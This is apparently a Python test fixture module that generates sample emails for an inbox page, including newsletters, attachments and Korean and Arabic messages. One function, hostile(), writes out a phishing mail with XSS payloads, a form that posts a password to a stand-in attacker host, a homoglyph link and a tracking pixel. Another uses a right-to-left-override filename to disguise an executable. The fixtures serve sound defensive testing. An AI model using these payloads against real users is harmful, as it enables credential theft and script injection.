"""Messages as people get them, for the inbox page: each a function of its number, so that no two are the same."""

import struct
import zlib
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

TRUSTED = "mx.example.net"


def plain(number: int = 1, subject: str = "", text: str = "") -> bytes:
    """A plain text."""
    return _octets(
        _message(
            number, "Ann Example <ann@example.org>", subject or f"Message {number}", text or f"This is text {number}.\n"
        )
    )


def notes(number: int = 1) -> bytes:
    """A longer plain text with a quotation, a list and links."""
    return _octets(
        _message(
            number,
            "Tove Lindqvist <tove@studio.example>",
            "Re: Notes from Thursday",
            "Hello,\n\nthanks for the good meeting. Here is what I wrote down:\n\n"
            "  1. The first draft is due on the 14th.\n  2. Jonas asks the printer about the paper.\n"
            "  3. We keep the blue cover.\n\n"
            "The photographs are at https://studio.example/photos/autumn?album=3 and you can take\nwhichever you like.\n\n"
            "> Could you send the notes to everybody? I lost mine on the train,\n> together with my umbrella.\n\n"
            "Done. The umbrella I cannot help with.\n\nTove\n\n-- \nStudio Lindqvist, https://studio.example\n",
            dmarc="pass",
        )
    )


def code(number: int = 1, digits: str = "481 729") -> bytes:
    """A mail with a one-time code."""
    message = _message(
        number,
        "Harbour Bank <no-reply@harbour.example>",
        "Your verification code",
        f"Hello,\n\nyour verification code is {digits}. It is valid for ten minutes.\n\nHarbour Bank\n",
        dmarc="pass",
    )
    message.add_alternative(
        f"<p>Hello,</p><p>your verification code is</p><p style='font-size:32px'><b>{digits}</b></p>"
        "<p>It is valid for ten minutes.</p><p>Harbour Bank</p>",
        subtype="html",
    )
    return _octets(message)


def newsletter(number: int = 1, host: str = "https://images.example") -> bytes:
    """A newsletter: styles, tables, remote images, one image inline."""
    message = _message(
        number,
        "Fieldnotes <letter@fieldnotes.example>",
        "Five walks for the last warm weekend",
        "Five walks.\n",
        dmarc="pass",
    )
    message["List-Unsubscribe"] = "<https://fieldnotes.example/leave?u=1>"
    message.add_alternative(
        f"""<html><head><style>.wrap{{max-width:600px;margin:0 auto;font-family:Georgia,serif;color:#233}}
h1{{font-size:30px;margin:24px 0 8px}}.btn{{background:#355e3b;color:#fff;padding:12px 20px;text-decoration:none;display:inline-block;border-radius:4px}}
.foot{{color:#777;font-size:13px;border-top:1px solid #ddd;padding-top:12px;margin-top:28px}}td{{padding:8px;vertical-align:top}}</style></head>
<body style="background:#f7f3e9"><div class="wrap"><img src="cid:logo" width="72" height="72" alt="Fieldnotes">
<h1>Five walks for the last warm weekend</h1><p>The light is low, the paths are dry, and the huts are still open. Here is where we would go.</p>
<img src="{host}/lake.jpg" width="584" height="220" alt="A lake in the morning">
<table><tr><td><img src="{host}/pine.jpg" width="160" height="110" alt="Pines"></td><td><b>The pine ridge</b><br>Three hours, shade, and a spring
half way up. Bring a cup.</td></tr><tr><td><img src="{host}/marsh.jpg" width="160" height="110" alt="Marsh"></td><td><b>Around the marsh</b><br>
Flat, quiet, full of cranes in the evening.</td></tr></table><p><a class="btn" href="https://fieldnotes.example/walks">See all five</a></p>
<p class="foot">You get this letter because you subscribed. <a href="https://fieldnotes.example/leave">Leave</a><img src="{host}/open.gif?u=1" width="1" height="1" alt=""></p>
</div></body></html>""",
        subtype="html",
    )
    _, html = message.iter_parts()
    assert isinstance(html, EmailMessage)
    html.add_related(png(72, 72, (0x35, 0x5E, 0x3B)), "image", "png", cid="<logo>", filename="logo.png")
    return _octets(message)


def files(number: int = 1) -> bytes:
    """A mail with attachments: an image, a document, an appointment, a name that turns its direction."""
    message = _message(
        number, "Jonas Weber <jonas@printer.example>", "Proofs and an appointment", "The proofs are attached.\n"
    )
    message.add_attachment(png(320, 200, (0xC9, 0x6F, 0x3B)), "image", "png", filename="cover.png")
    message.add_attachment(
        b"%PDF-1.7\n" + b"x" * 40_000, "application", "pdf", filename="proof of the inner pages, second version.pdf"
    )
    calendar = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:At the printer\r\nDTSTART:20261204T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    message.add_attachment(calendar.encode(), "text", "calendar", filename="appointment.ics")
    message.add_attachment(b"MZ", "application", "octet-stream", filename="invoice\u202efdp.exe")
    return _octets(message)


def hostile(number: int = 1, host: str = "https://evil.example") -> bytes:
    """A mail that tries what hostile mail tries: scripts, requests, links that lead elsewhere, an overlay."""
    message = _message(
        number,
        '"<script>alert(1)</script>" <service@harbour.example>',
        "<img src=x onerror=alert(2)> Your account is locked",
        "",
        dmarc="fail",
    )
    message.set_content(
        f"""<html><head><base href="{host}/"><meta http-equiv="refresh" content="0;url={host}/refresh"><link rel="stylesheet" href="{host}/a.css">
<style>@import url({host}/b.css); body{{background:url({host}/c.png)}} .over{{position:fixed;inset:0;background:#fff8}}</style></head>
<body onload="alert(3)"><script>alert(4)</script><div class="over"></div><h2>Your account is locked</h2>
<p>Dear customer, please confirm your data within 24 hours.</p><svg onload=alert(5)></svg><img src=x onerror=alert(6)>
<p><a href="https://harbour.example.attacker.example/login">https://www.harbour.example/login</a></p>
<p><a href="https://h\u0430rbour.example/">Help centre</a></p><p><a href="javascript:alert(7)">Unlock now</a></p>
<form action="{host}/steal"><input name="password" placeholder="Password"><button>Send</button></form><img src="{host}/pixel.gif?id=1"></body></html>""",
        subtype="html",
    )
    return _octets(message)


def endless(number: int = 1) -> bytes:
    """A mail in which everything is too long, with 100 files."""
    word = "Donaudampfschiff" * 320
    message = _message(number, f'"{word}" <{word}@{".".join(["label" * 12] * 4)}.example>', word, f"{word}\n")
    message[f"X-{word[:900]}"] = "x"
    for each in range(100):
        message.add_attachment(b"x", "application", "pdf", filename=f"{each} {word[: 4000 * (each < 2)]}.pdf")
    return _octets(message)


def korean(number: int = 1) -> bytes:
    """A mail in Korean."""
    message = _message(
        number,
        "푸른서점 <help@bookshop.example>",
        "주문하신 책이 발송되었습니다",
        "안녕하세요, 주문하신 책 두 권이 오늘 발송되었습니다.\n",
        dmarc="pass",
    )
    message.add_alternative(
        "<div style='max-width:560px;margin:auto;font-family:sans-serif'><h2 style='color:#1c4f8a'>주문하신 책이 발송되었습니다</h2>"
        "<p>안녕하세요, 김민지 님.</p><p>주문하신 책 두 권이 오늘 오후에 발송되었습니다. 도착까지 보통 이틀이 걸립니다.</p>"
        "<ul><li>바다가 보이는 부엌</li><li>작은 기차역의 겨울</li></ul><p><a href='https://bookshop.example/track/8841'>배송 조회하기</a></p></div>",
        subtype="html",
    )
    return _octets(message)


def arabic(number: int = 1) -> bytes:
    """A mail in Arabic, with a code."""
    return _octets(
        _message(
            number,
            "مكتبة النور <info@library.example>",
            "رمز التحقق الخاص بك",
            "مرحبًا،\n\nرمز التحقق الخاص بك هو 503918.\nهذا الرمز صالح لمدة عشر دقائق فقط.\n\nلمزيد من المعلومات: https://library.example/help\n\nمع أطيب التحيات\nمكتبة النور\n",
            dmarc="pass",
        )
    )


def png(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A PNG of one colour, with a diagonal of a lighter one."""
    lighter = bytes(min(255, part + 60) for part in colour)
    rows = b"".join(
        b"\0" + b"".join(lighter if abs(x * height - y * width) < 12 * height else bytes(colour) for x in range(width))
        for y in range(height)
    )

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def _message(number: int, author: str, subject: str, text: str, dmarc: str = "") -> EmailMessage:
    message = EmailMessage()
    if dmarc:
        message["Authentication-Results"] = f"{TRUSTED}; spf={dmarc}; dkim={dmarc}; dmarc={dmarc}"
    message["From"] = author
    message["To"] = "you@example.com"
    message["Subject"] = subject
    message["Date"] = format_datetime(datetime.now(UTC))
    message["Message-ID"] = f"<{number}.{abs(hash(subject)):x}@example.org>"
    message.set_content(text)
    return message


def _octets(message: EmailMessage) -> bytes:
    return message.as_bytes()
